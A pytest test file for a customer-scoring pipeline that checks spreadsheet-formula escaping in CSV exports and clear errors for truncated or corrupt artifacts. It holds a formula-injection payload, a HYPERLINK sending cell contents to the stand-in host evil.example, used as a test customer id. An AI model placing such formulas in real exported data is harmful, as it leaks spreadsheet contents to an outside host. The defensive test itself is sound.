"""The scored table as downstream teams open it, and artifacts broken between stages."""

from __future__ import annotations

import shutil

import pandas as pd
import pytest

from models.simulate import SimulationSettings, simulate_log
from pipeline.cli import main
from tests.conftest import write_params

pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("export")]

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
FAST = (
    "data=simulated",
    "data.format=csv",
    "clv.method=map",
    "features.train_cutoffs=2",
    "churn.n_estimators=100",
    "churn.min_child_samples=50",
)


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """`cvm run` on a simulated log with customer ids a spreadsheet would run as formulas; run
    once for the module (read-only: a test that breaks something works on a copy)."""
    tmp = tmp_path_factory.mktemp("export")
    log = simulate_log(SimulationSettings(customers=2000, seed=6))[0]
    ids = {"0001": HOSTILE, "0002": "+1", "0003": "@SUM(A1)"}
    log["customer_id"] = log.customer_id.map(lambda c: ids.get(c, c))
    log.to_csv(tmp / "log.csv", index=False)
    write_params(tmp, *FAST, f"data.path={tmp}/log.csv", "tracking.enabled=false")
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(tmp)
        assert main(["run"]) == 0
    return tmp


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(project):
    csv = pd.read_csv(project / "data/scored/customers.csv", dtype={"customer_id": str})
    parquet = pd.read_parquet(project / "data/scored/customers.parquet")
    assert {"'" + HOSTILE, "'+1", "'@SUM(A1)"} <= set(csv.customer_id)
    assert not csv.customer_id.str.match(r"[=+\-@]").any()
    assert {HOSTILE, "+1", "@SUM(A1)"} <= set(parquet.customer_id)  # the raw values
    assert len(csv) == len(parquet)


def test_broken_artifacts_stop_with_the_file_and_what_to_rerun(
    project, tmp_path, monkeypatch, capsys
):
    project = shutil.copytree(project, tmp_path / "project")
    monkeypatch.chdir(project)
    scoring = project / "data/features/scoring.parquet"
    scoring.write_bytes(scoring.read_bytes()[:500])  # a truncated table
    assert main(["stage", "score"]) == 2
    err = capsys.readouterr().err
    assert "scoring.parquet: unreadable" in err and "run the stage that produces it again" in err
    assert "Traceback" not in err
    assert main(["stage", "features"]) == 0
    (project / "artifacts/churn/scoring/model.txt").write_text("not a model")
    assert main(["stage", "score"]) == 2
    err = capsys.readouterr().err
    assert "artifacts/churn/scoring: not a readable churn model" in err
    assert "run the train_churn stage again" in err
